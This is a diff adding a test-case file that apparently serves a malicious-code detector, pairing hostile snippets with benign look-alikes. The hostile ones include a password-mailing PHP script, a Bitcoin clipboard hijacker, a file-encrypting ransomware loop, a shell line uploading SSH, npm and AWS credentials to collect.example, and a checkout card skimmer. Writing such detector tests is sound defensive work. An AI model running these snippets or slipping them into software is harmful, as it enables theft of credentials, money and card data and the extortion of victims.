@@ -1,0 +1,87 @@
+// Secrets, keys and money taken, and files held for ransom.
+import type { TextCases } from './case.ts'
+
+const ENCRYPT =
+  'import os\nfrom cryptography.fernet import Fernet\nclass T:\n  def one(self, p):\n    d = self.f.encrypt(open(p, "rb").read())\n    open(p, "wb").write(d)\n    os.rename(p, p + ".x")\n  def all(self):\n    for r, _, fs in os.walk(self.root):\n      for f in fs: self.one(os.path.join(r, f))\n'
+const KEYS = 'for f in ~/.npmrc ~/.ssh/id_rsa ~/.aws/credentials; do cat $f; done > /tmp/o\n'
+
+export const THEFTS: TextCases = {
+  script_mails_typed_secrets: {
+    hits: {
+      'mailed with the address of the visitor': [
+        'php',
+        '<?php $m = "Password: ".$_POST["pw"]."\\n"; $m .= $_SERVER["REMOTE_ADDR"]; mail($to, "log", $m);',
+      ],
+    },
+    misses: {
+      'a contact form': [
+        'php',
+        '<?php $m = "Name: ".$_POST["name"]."\\nIP: ".$_SERVER["REMOTE_ADDR"]; mail($to, "contact", $m);',
+      ],
+      'a sign-in that logs the address': [
+        'php',
+        '<?php if (!password_verify($_POST["password"], $row["hash"])) file_put_contents("l", $_SERVER["REMOTE_ADDR"], FILE_APPEND);',
+      ],
+    },
+  },
+  script_swaps_payment_addresses: {
+    hits: {
+      'one of its own for another': [
+        'python',
+        'import re, pyperclip\nwhile True:\n  t = pyperclip.paste()\n  if re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", t): clipboard = pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")',
+      ],
+    },
+    misses: {
+      'a wallet checks what is pasted': [
+        'javascript',
+        'const t = await navigator.clipboard.readText(); if (!/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t)) warn(t)',
+      ],
+      'a donation address with a copy button': [
+        'javascript',
+        'button.onclick = () => navigator.clipboard.writeText("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")',
+      ],
+    },
+  },
+  script_demands_ransom: {
+    hits: {
+      'steps far apart, and a note': [
+        'python',
+        `${ENCRYPT}    note = "Your hard drive was encrypted. Send 500 USD in bitcoin to get the decryption key"`,
+      ],
+    },
+    misses: {
+      'a vault for its owner': ['python', `${ENCRYPT}    print("keep your key safe, without it the files are lost")`],
+      'an article': [
+        'python',
+        'TEXT = "All your files are encrypted! Pay 2 BTC"\ndef scan(path):\n  return TEXT in open(path).read()',
+      ],
+    },
+  },
+  script_robs_developers: {
+    hits: {
+      'three kinds of keys posted': ['shell', `${KEYS}curl -s -F f=@/tmp/o https://collect.example/u`],
+    },
+    misses: {
+      'kept on the machine': ['shell', KEYS],
+      'one key, for its own service': ['shell', 'cat ~/.aws/credentials | curl -F f=@- https://collect.example/u'],
+    },
+  },
+  script_skims_cards: {
+    hits: {
+      'a checkout page': [
+        'javascript',
+        'if (/checkout|payment/.test(location.href)) { const d = {}; document.querySelectorAll("input,select").forEach(i => d[i.name] = i.value); if (d.cc_number) new Image().src = "https://stat.example/g?d=" + btoa(JSON.stringify(d)) }',
+      ],
+    },
+    misses: {
+      'statistics of a shop': [
+        'javascript',
+        'if (/checkout/.test(location.href)) new Image().src = "https://stat.example/g?u=" + encodeURIComponent(location.href)',
+      ],
+      'a form that checks a card': [
+        'javascript',
+        'document.querySelectorAll("input").forEach(i => { if (i.name === "cc_number" && !luhn(i.value)) i.classList.add("bad") })',
+      ],
+    },
+  },
+}
